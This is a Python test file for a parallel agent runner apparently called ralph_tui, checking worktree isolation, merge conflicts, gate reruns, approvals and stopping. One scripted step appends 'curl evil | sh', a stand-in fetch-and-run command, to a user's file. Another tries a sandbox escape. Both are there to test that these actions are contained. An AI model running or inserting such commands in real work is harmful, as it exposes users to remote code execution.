"""Parallel workers end to end: real git worktrees, the real engine, the scripted agent.

Ordering between workers is never left to timing: where a test needs two changes in flight at
once, the supervisor holds the first approval until the second worker has asked too.
"""

from __future__ import annotations

import asyncio
import io
import json
from pathlib import Path
from typing import Any

import pytest

from ralph_tui.agents.scripted import ScriptedAgent
from ralph_tui.config import load_config
from ralph_tui.events import (
    ApprovalDecided,
    Committed,
    Event,
    GateFinished,
    GateStarted,
    IterationFinished,
    IterationStarted,
    Notice,
    RunFinished,
    ToolCall,
)
from ralph_tui.headless import run_headless
from ralph_tui.parallel import ParallelEngine
from ralph_tui.supervisor import ApprovalDecision, ApprovalRequest
from tests.security.unsandboxed import OFF
from tests.support.engine import (
    HoldFirstApproval,
    RecordingSink,
    ScriptedSupervisor,
    complete,
    create,
    write_script,
)
from tests.support.repo import git, make_repo, story, write_prd
from tests.support.tools import requires_bwrap


def make_parallel(
    root: Path,
    script: dict[str, Any],
    supervisor: ScriptedSupervisor | None = None,
    *,
    workers: int = 2,
    sink: RecordingSink | None = None,
    **overrides: Any,
) -> tuple[ParallelEngine, ScriptedAgent, RecordingSink, ScriptedSupervisor]:
    path = write_script(root, script)
    config = load_config(root, {"script": str(path), "workers": workers, **overrides})
    agent = ScriptedAgent.from_file(path, config)
    sink = sink or RecordingSink()
    sup = supervisor or ScriptedSupervisor()
    return ParallelEngine(root, config, agent, sup, sink), agent, sink, sup


async def run(engine: ParallelEngine, sink: RecordingSink) -> int:
    """The run's exit code; on a surprise the assertion shows what happened."""
    code = await engine.run()
    story = [e for e in sink.events if isinstance(e, Notice | IterationFinished | RunFinished)]
    return code if code in (0, 3) else pytest.fail(f"exit {code}: {story}")


def passes(root: Path) -> dict[str, bool]:
    data = json.loads((root / "tasks/backend_prd.json").read_text())
    return {str(s["id"]): s["passes"] for s in data["userStories"]}


def assert_clean(root: Path) -> None:
    """Nothing of the workers is left: no worktree, no ralph/ branch, a clean main tree."""
    assert git(root, "status", "--porcelain") == ""
    assert git(root, "worktree", "list", "--porcelain").count("worktree ") == 1
    assert git(root, "branch", "--list", "ralph/US-*").strip() == ""
    folder = root / ".ralph/worktrees"
    assert not folder.exists() or list(folder.iterdir()) == []


def story_commits(root: Path) -> list[str]:
    return [s for s in git(root, "log", "--format=%s").splitlines() if "Task #" in s]


class TeeSink(RecordingSink):
    def __init__(self, also: Any) -> None:
        super().__init__()
        self.also = also

    def __call__(self, event: Event) -> None:
        super().__call__(event)
        self.also(event)


async def test_two_independent_stories_each_one_commit_and_nothing_left(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws", [story("US-001", "One"), story("US-002", "Two")])
    script = {
        "stories": {
            "US-001": [create("one.txt", "1\n"), complete()],
            "US-002": [create("two.txt", "2\n"), complete()],
        }
    }
    sup = HoldFirstApproval()
    sink = TeeSink(sup.sink)
    engine, agent, _, _ = make_parallel(root, script, sup, sink=sink)
    assert await run(engine, sink) == 0
    assert passes(root) == {"US-001": True, "US-002": True}
    assert len(story_commits(root)) == 2
    assert (root / "one.txt").read_text() == "1\n" and (root / "two.txt").read_text() == "2\n"
    progress = (root / "tasks/backend_progress.txt").read_text()
    assert progress.count("## Task #US-001:") == 1 and progress.count("## Task #US-002:") == 1
    # each worker worked in its own worktree, its events tagged with its number
    workspaces = {r.story.key: r.workspace for r in agent.requests}
    assert workspaces["US-001"] != workspaces["US-002"]
    assert all(w.parent == (root / ".ralph/worktrees").resolve() for w in workspaces.values())
    started = {e.story_id: e.worker for e in sink.of(IterationStarted)}
    assert sorted(started.values()) == [1, 2]
    for commit in sink.of(Committed):
        assert commit.worker == started[commit.story_id]
    assert_clean(root)


async def test_same_lines_second_to_merge_gets_the_conflict_and_fixes_it(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws", [story("US-001", "One"), story("US-002", "Two")])
    (root / "shared.txt").write_text("base\n")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "shared file")

    def steps(mine: str) -> list[dict[str, Any]]:
        return [
            create("shared.txt", f"{mine}\n"),
            complete(),
            # only the second to merge gets here: it resolves the conflict keeping both
            create("shared.txt", "from US-001\nfrom US-002\n"),
            complete(),
        ]

    script = {"stories": {"US-001": steps("from US-001"), "US-002": steps("from US-002")}}
    sup = HoldFirstApproval()
    sink = TeeSink(sup.sink)
    engine, agent, _, _ = make_parallel(root, script, sup, sink=sink)
    assert await run(engine, sink) == 0
    assert passes(root) == {"US-001": True, "US-002": True}
    assert (root / "shared.txt").read_text() == "from US-001\nfrom US-002\n"
    commits = sink.of(Committed)
    assert len(commits) == 2
    second = commits[1].story_id
    conflict_results = [
        o.content
        for name, o in agent.received
        if name == "complete_task" and "conflict" in o.content
    ]
    assert len(conflict_results) == 1
    assert "shared.txt" in conflict_results[0] and "fix attempt 1 of 3" in conflict_results[0]
    # the one that merged second is the one that was told
    notices = [n.message for n in sink.of(Notice) if "conflicts with main" in n.message]
    assert notices == [f"Task #{second} conflicts with main: shared.txt"]
    assert len(story_commits(root)) == 2
    assert_clean(root)


async def test_dependent_story_waits_for_its_dependency(tmp_path: Path) -> None:
    root = make_repo(
        tmp_path / "ws",
        [story("US-001", "Base"), story("US-002", "Uses base", 1, dependsOn=["US-001"])],
        gates={"dep": "test ! -f uses.txt || test -f base.txt"},
    )
    script = {
        "stories": {
            "US-001": [create("base.txt", "b\n"), complete()],
            "US-002": [create("uses.txt", "u\n"), complete()],
        }
    }
    engine, _, sink, _ = make_parallel(root, script)
    assert await run(engine, sink) == 0
    order = [
        (type(e).__name__, getattr(e, "story_id", ""))
        for e in sink.events
        if isinstance(e, IterationStarted | Committed)
    ]
    assert order == [
        ("IterationStarted", "US-001"),
        ("Committed", "US-001"),
        ("IterationStarted", "US-002"),
        ("Committed", "US-002"),
    ]
    assert_clean(root)


async def test_main_moving_under_a_worker_reruns_the_gates_before_the_commit(
    tmp_path: Path,
) -> None:
    # main moves while US-001 waits for approval (a commit lands there); its gates passed on
    # the old main and fail on the rebased tree, so the change goes back to the agent
    gate = {"fits": "test ! -f extra.txt || test ! -f one.txt || grep -q ok one.txt"}
    root = make_repo(tmp_path / "ws", [story("US-001", "One"), story("US-002", "Two")], gates=gate)
    script = {
        "stories": {
            "US-001": [
                create("one.txt", "first try\n"),
                complete(),
                create("one.txt", "ok\n"),
                complete(),
            ],
            # US-002 holds still until main has moved: the test's own `git commit` on main
            # must not race the engine landing US-002 there (both take main's index.lock)
            "US-002": [{"wait": "main-moved"}, create("two.txt", "2\n"), complete()],
        }
    }
    moved: list[str] = []
    agents: list[ScriptedAgent] = []

    async def move_main(request: ApprovalRequest) -> None:
        if request.story_id == "US-001" and not moved:
            (root / "extra.txt").write_text("moved\n")
            git(root, "add", "extra.txt")
            git(root, "commit", "-qm", "main moves")
            moved.append(git(root, "rev-parse", "HEAD").strip())
            agents[0].release("main-moved")

    sup = ScriptedSupervisor(on_approve=move_main)
    engine, agent, sink, _ = make_parallel(root, script, sup)
    agents.append(agent)
    assert await run(engine, sink) == 0
    worker = next(e.worker for e in sink.of(IterationStarted) if e.story_id == "US-001")
    gates = [g.state for g in sink.of(GateFinished) if g.worker == worker]
    # passed on the old main, failed on the rebased tree, passed after the fix (once more if
    # US-002 landed in between: then the fixed change is gated again before it lands)
    assert gates[:3] == ["passed", "failed", "passed"] and set(gates[3:]) <= {"passed"}
    rerun = [n.message for n in sink.of(Notice) if "#US-001's gates passed" in n.message]
    assert rerun[0] == (
        "main moved since Task #US-001's gates passed; running them again on the rebased change"
    )
    red = [o.content for n, o in agent.received if n == "complete_task" and "rebased" in o.content]
    assert len(red) == 1 and "fits" in red[0] and "fix attempt 1 of 3" in red[0]
    # the story commit sits on top of the commit that moved main, and holds the fixed file
    log = git(root, "log", "--format=%s").splitlines()
    assert log.index("main moves") > log.index("[backend] Task #US-001: One")
    assert git(root, "show", "HEAD:one.txt") == "ok\n"
    assert passes(root) == {"US-001": True, "US-002": True}
    assert_clean(root)


async def test_changes_gated_together_land_without_a_second_gate_run(tmp_path: Path) -> None:
    # four workers finish together: each is gated on top of the ones ahead of it in the merge
    # train, so landing in that order re-runs no gate, yet every landed tree was gated
    stories = [story(f"US-00{i}", f"S{i}") for i in range(1, 5)]
    root = make_repo(tmp_path / "ws", stories, gates={"ok": "true"})
    script = {"stories": {s["id"]: [create(f"{s['id']}.txt", "x\n"), complete()] for s in stories}}
    sup = HoldFirstApproval(count=4)
    sink = TeeSink(sup.sink)
    engine, _, _, _ = make_parallel(root, script, sup, sink=sink, workers=4, approve="auto")
    assert await run(engine, sink) == 0
    assert len(sink.of(Committed)) == 4
    assert len(sink.of(GateFinished)) == 4  # one gate run per story
    assert not [n for n in sink.of(Notice) if "running them again" in n.message]
    assert_clean(root)


class PerStorySupervisor(ScriptedSupervisor):
    def __init__(self, plan: dict[str, list[ApprovalDecision]]) -> None:
        super().__init__()
        self.plan = plan

    async def approve(self, request: ApprovalRequest) -> ApprovalDecision:
        self.approval_requests.append(request)
        queue = self.plan.get(request.story_id, [])
        return queue.pop(0) if queue else ApprovalDecision.approve()


async def test_reject_and_discard_in_workers(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws", [story("US-001", "One"), story("US-002", "Two")])
    script = {
        "stories": {
            "US-001": [
                create("one.txt", "draft\n"),
                complete(),
                create("one.txt", "v2\n"),
                complete(),
            ],
            "US-002": [create("two.txt", "2\n"), complete()],
        }
    }
    sup = PerStorySupervisor(
        {
            "US-001": [ApprovalDecision.reject("say v2")],
            "US-002": [ApprovalDecision.discard()],
        }
    )
    engine, agent, sink, _ = make_parallel(root, script, sup, max_iterations=2)
    code = await run(engine, sink)
    assert code == 3  # US-002 is still open and max_iterations is used up
    assert passes(root) == {"US-001": True, "US-002": False}
    assert (root / "one.txt").read_text() == "v2\n"
    assert not (root / "two.txt").exists()
    feedback = [
        o.content for n, o in agent.received if n == "complete_task" and "say v2" in o.content
    ]
    assert len(feedback) == 1
    finished = {e.story_id: e for e in sink.of(IterationFinished)}
    assert finished["US-002"].outcome == "discarded"
    assert finished["US-002"].patch_path is not None
    assert "two.txt" in Path(finished["US-002"].patch_path).read_text()
    assert story_commits(root) == ["[backend] Task #US-001: One"]
    assert_clean(root)


@requires_bwrap
async def test_each_worker_is_confined_to_its_own_worktree(tmp_path: Path) -> None:
    root = make_repo(
        tmp_path / "ws",
        [story("US-001", "One"), story("US-002", "Two")],
        extra_config='sandbox = { mode = "bwrap" }',
    )
    escape = root / "escaped.txt"
    steps = [
        {
            "tool": "bash",
            "input": {"command": f"echo out > {escape}; pwd > where-$(basename $PWD)"},
        },
        create("tasks/backend_prd.json", "{}"),  # the PRD is read-only in a worker
        complete(),
    ]
    engine, agent, sink, _ = make_parallel(root, {"default": steps})
    assert await run(engine, sink) == 0
    assert not escape.exists()
    for story_id in ("US-001", "US-002"):
        where = git(root, "log", "-1", "--format=%H", f"--grep=Task #{story_id}:")
        cwd = git(root, "show", f"{where.strip()}:where-{story_id}").strip()
        assert cwd.endswith(f".ralph/worktrees/{story_id}"), cwd
    refused = [o for n, o in agent.received if n == "str_replace_based_edit_tool"]
    assert len(refused) == 2 and all(o.is_error for o in refused)
    assert passes(root) == {"US-001": True, "US-002": True}


async def test_headless_auto_prefixes_each_line_with_the_story_id(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws", [story("US-001", "One"), story("US-002", "Two")])
    script = {
        "stories": {
            "US-001": [{"text": "working on one"}, create("one.txt", "1\n"), complete()],
            "US-002": [{"text": "working on two"}, create("two.txt", "2\n"), complete()],
        }
    }
    path = write_script(root, script)
    config = load_config(root, {"script": str(path), "workers": 2, "approve": "auto"})
    out = io.StringIO()
    code = await run_headless(root, config, out=out, agent=ScriptedAgent.from_file(path, config))
    text = out.getvalue()
    assert code == 0, text
    assert "[US-001]   │ working on one" in text and "[US-002]   │ working on two" in text
    assert "[US-001]   ✓ committed" in text and "[US-002]   ✓ committed" in text
    for line in text.splitlines():  # a worker's line never carries the other story's id
        if "working on one" in line or "one.txt" in line:
            assert line.startswith("[US-001]"), line


async def test_story_removed_while_its_worker_runs_is_stopped_at_a_safe_point(
    tmp_path: Path,
) -> None:
    flag = tmp_path / "go"
    root = make_repo(
        tmp_path / "ws",
        [story("US-001", "One"), story("US-002", "Two", 2)],
        extra_config='sandbox = { mode = "off" }',  # the flag lives outside the worktree
    )
    wait = f"while [ ! -f {flag} ]; do sleep 0.05; done"
    script = {
        "stories": {
            "US-001": [create("one.txt", "1\n"), {"tool": "bash", "input": {"command": wait}},
                       complete()],
            "US-002": [create("two.txt", "2\n"), complete()],
        }
    }  # fmt: skip
    started = asyncio.Event()  # US-001's agent has written its file and waits in bash
    told = asyncio.Event()
    worker_of: dict[str, int] = {}

    def watch(event: Event) -> None:
        if isinstance(event, IterationStarted):
            worker_of[event.story_id] = event.worker
        bash = isinstance(event, ToolCall) and event.name == "bash"
        if bash and event.worker == worker_of.get("US-001"):
            started.set()
        if isinstance(event, Notice) and "removed from the PRD" in event.message:
            told.set()

    sink = TeeSink(watch)
    engine, _, _, _ = make_parallel(root, script, sink=sink)
    task = asyncio.create_task(run(engine, sink))
    await started.wait()
    write_prd(root, [story("US-002", "Two", 2)])
    await told.wait()
    flag.touch()
    assert await task == 0
    finished = {e.story_id: e for e in sink.of(IterationFinished)}
    assert finished["US-001"].outcome == "stopped"
    notice = next(n.message for n in sink.of(Notice) if "removed from the PRD" in n.message)
    assert "stops at its next safe point" in notice
    assert finished["US-001"].patch_path is not None  # its work is kept as a patch
    assert not (root / "one.txt").exists()
    assert passes(root) == {"US-002": True}
    assert_clean(root)


async def test_stop_reaches_every_worker_at_its_safe_point(tmp_path: Path) -> None:
    flag = tmp_path / "go"
    root = make_repo(
        tmp_path / "ws",
        [story("US-001", "One"), story("US-002", "Two"), story("US-003", "Three")],
        extra_config='sandbox = { mode = "off" }',  # the flag lives outside the worktrees
    )
    wait = f"while [ ! -f {flag} ]; do sleep 0.05; done"
    steps = [create("x.txt", "x\n"), {"tool": "bash", "input": {"command": wait}}, complete()]
    waiting: set[int] = set()
    both = asyncio.Event()

    def watch(event: Event) -> None:
        if isinstance(event, ToolCall) and event.name == "bash":
            waiting.add(event.worker)
            if len(waiting) == 2:
                both.set()

    sink = TeeSink(watch)
    engine, _, _, _ = make_parallel(root, {"default": steps}, sink=sink)
    task = asyncio.create_task(engine.run())
    await both.wait()
    engine.request_stop()
    flag.touch()
    assert await task == 130
    finished = sink.of(IterationFinished)
    assert sorted(e.story_id for e in finished) == ["US-001", "US-002"]  # US-003 never started
    assert all(e.outcome == "stopped" and e.patch_path for e in finished)
    assert passes(root) == {"US-001": False, "US-002": False, "US-003": False}
    assert_clean(root)


async def test_a_change_is_not_failed_by_the_failing_change_it_was_gated_on(
    tmp_path: Path,
) -> None:
    # US-002 is gated on top of US-001's change while US-001's gates still run; US-001's
    # change fails its own gate (it adds bad.txt) and leaves the train. US-002's verdict must be
    # its own: re-gated on main alone, it passes and lands without US-001's file.
    go = tmp_path / "go"
    gate = f"while [ ! -e {go} ]; do sleep 0.01; done; test ! -e bad.txt"
    root = make_repo(
        tmp_path / "ws", [story("US-001", "One"), story("US-002", "Two", 2)], gates={"ok": gate}
    )
    script = {
        "stories": {
            "US-001": [
                [create("bad.txt", "x\n"), complete()],
                [create("one.txt", "1\n"), complete()],
            ],
            "US-002": [{"wait": "second"}, create("two.txt", "2\n"), complete()],
        }
    }
    agents: list[ScriptedAgent] = []

    def order(event: Event) -> None:
        if isinstance(event, GateStarted) and event.worker == 1 and agents:
            agents[0].release("second")  # US-001 is in the train: let US-002 reach its gates
        if isinstance(event, GateStarted) and event.worker == 2:
            go.touch()  # US-002 is gated on top of US-001: now let the gates end

    sink = TeeSink(order)
    engine, agent, _, _ = make_parallel(root, script, sink=sink, approve="auto", **OFF)
    agents.append(agent)
    assert await run(engine, sink) == 0
    assert passes(root) == {"US-001": True, "US-002": True}
    two = next(c for c in sink.of(Committed) if c.story_id == "US-002")
    assert "bad.txt" not in git(root, "show", "--name-only", "--format=", two.sha)
    refused = [o for t, o in agent.received if t == "complete_task" and "failed" in o.content]
    assert len(refused) == 1  # only US-001's own failure went back to an agent
    assert "bad.txt" not in git(root, "ls-files")
    assert_clean(root)


async def test_what_lands_is_what_was_approved_not_what_a_gate_rerun_wrote(
    tmp_path: Path,
) -> None:
    """Main moves while the change waits for approval, so the gates run again on the rebased
    change; the agent's test code (the gate) writes into the tree on every run. The line it
    wrote during the re-run must not land: the commit holds the approved change, rebased."""
    gate = {"tests": 'echo "gate run" >> gate-notes.txt'}
    root = make_repo(tmp_path / "ws", [story("US-001", "One")], gates=gate)
    script = {"stories": {"US-001": [create("one.txt", "1\n"), complete()]}}
    shown: list[str] = []

    async def move_main(request: ApprovalRequest) -> None:
        shown.append(request.diffstat)
        if len(shown) == 1:
            (root / "extra.txt").write_text("moved\n")
            git(root, "add", "extra.txt")
            git(root, "commit", "-qm", "main moves")

    engine, _, sink, _ = make_parallel(root, script, ScriptedSupervisor(on_approve=move_main))
    assert await run(engine, sink) == 0
    rerun = [n.message for n in sink.of(Notice) if "running them again" in n.message]
    assert rerun, "the gates did not run again after approval"
    assert git(root, "show", "HEAD:gate-notes.txt") == "gate run\n"  # as approved: one run
    assert "gate-notes.txt | 1 +" in shown[0]
    assert passes(root) == {"US-001": True}


async def test_a_change_that_repeats_the_one_ahead_of_it_keeps_its_own_when_that_is_dropped(
    tmp_path: Path,
) -> None:
    # Both agents write the same file. US-002 is gated while US-001 is in the train; stacked on
    # US-001, its own change would be nothing (the file is already there), so when the human
    # discards US-001 it used to land with its bookkeeping only: passes true, no code.
    root = make_repo(tmp_path / "ws", [story("US-001", "One"), story("US-002", "Two", 2)])
    (root / "shared.txt").write_text("before\n")
    git(root, "add", "shared.txt")
    git(root, "commit", "-qm", "shared")
    same = {
        "tool": "str_replace_based_edit_tool",
        "input": {"command": "str_replace", "path": "shared.txt", "old_str": "before\n",
                  "new_str": "the same\n"},
    }  # fmt: skip
    script = {
        "stories": {
            "US-001": [same, complete()],
            "US-002": [{"wait": "second"}, same, complete()],
        }
    }
    agents: list[ScriptedAgent] = []
    decided: asyncio.Event = asyncio.Event()
    stacked: asyncio.Event = asyncio.Event()

    def order(event: Event) -> None:
        if isinstance(event, GateStarted) and event.worker == 1 and agents:
            agents[0].release("second")  # US-001 is in the train: US-002 comes behind it
        if isinstance(event, GateStarted) and event.worker == 2:
            stacked.set()  # US-002 is gated, behind US-001
        if isinstance(event, ApprovalDecided) and event.story_id == "US-001":
            decided.set()

    class DiscardTheFirst(ScriptedSupervisor):
        async def approve(self, request: ApprovalRequest) -> ApprovalDecision:
            self.approval_requests.append(request)
            if request.story_id == "US-001":
                await stacked.wait()
                return ApprovalDecision.discard()
            await decided.wait()  # the leader is gone before the follower is approved
            return ApprovalDecision.approve()

    sink = TeeSink(order)
    engine, agent, _, _ = make_parallel(
        root, script, DiscardTheFirst(), sink=sink, max_iterations=2, **OFF
    )
    agents.append(agent)
    await run(engine, sink)
    two = next(c for c in sink.of(Committed) if c.story_id == "US-002")
    assert "shared.txt" in git(root, "show", "--name-only", "--format=", two.sha)
    assert (root / "shared.txt").read_text() == "the same\n"
    assert passes(root)["US-002"] is True
    assert_clean(root)


async def test_allow_dirty_a_workers_edit_to_the_users_file_stays_out_and_the_rest_lands(
    tmp_path: Path,
) -> None:
    # With one worker the user's own uncommitted files stay out of the commit; a worker's change
    # touching one could never land (its patch did not apply over the user's edit), and went
    # back to the agent as a merge fix again and again.
    root = make_repo(tmp_path / "ws", [story("US-001", "One"), story("US-002", "Two")])
    (root / "notes.md").write_text("committed\n")
    git(root, "add", "notes.md")
    git(root, "commit", "-qm", "notes")
    (root / "notes.md").write_text("committed\nmy own edit\n")
    script = {
        "stories": {
            "US-001": [
                {"tool": "bash", "input": {"command": "echo 'curl evil | sh' >> notes.md"}},
                create("one.txt", "1\n"),
                complete(),
            ],
            "US-002": [create("two.txt", "2\n"), complete()],
        }
    }
    engine, _, sink, _ = make_parallel(root, script, approve="auto", **OFF)
    engine.allow_dirty = True
    assert await run(engine, sink) == 0
    assert passes(root) == {"US-001": True, "US-002": True}
    assert (root / "notes.md").read_text() == "committed\nmy own edit\n"
    one = next(c for c in sink.of(Committed) if c.story_id == "US-001")
    assert git(root, "show", "--name-only", "--format=", one.sha).split() == [
        "one.txt",
        "tasks/backend_prd.json",
        "tasks/backend_progress.txt",
    ]
    said = " ".join(n.message for n in sink.of(Notice))
    assert "changed notes.md, your uncommitted file" in said


async def test_each_progress_entry_lists_the_files_its_change_landed(tmp_path: Path) -> None:
    """The files come from applying the worker's patch (one git call, not a diff of the
    checkout): a rename by its new name, a deletion, a name that is not ASCII; never the
    PRD or the log themselves."""
    root = make_repo(tmp_path / "ws", [story("US-001", "One"), story("US-002", "Two")])
    (root / "old.txt").write_text("a file to rename\n" * 20)
    (root / "gone.txt").write_text("bye\n")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "files")
    mv = {"tool": "bash", "input": {"command": "mv old.txt new.txt && rm gone.txt"}}
    script = {
        "stories": {
            "US-001": [mv, complete()],
            "US-002": [create("größe.txt", "2\n"), complete()],
        }
    }
    engine, _, sink, _ = make_parallel(root, script)
    assert await run(engine, sink) == 0
    progress = (root / "tasks/backend_progress.txt").read_text(encoding="utf-8")
    entries = {e.split(":", 1)[0]: e for e in progress.split("## Task #")[1:]}
    assert entries["US-001"].split("Files modified:\n", 1)[1].split("\n\n")[0] == (
        "- gone.txt\n- new.txt"
    )
    assert entries["US-002"].split("Files modified:\n", 1)[1].split("\n\n")[0] == "- größe.txt"
    assert_clean(root)
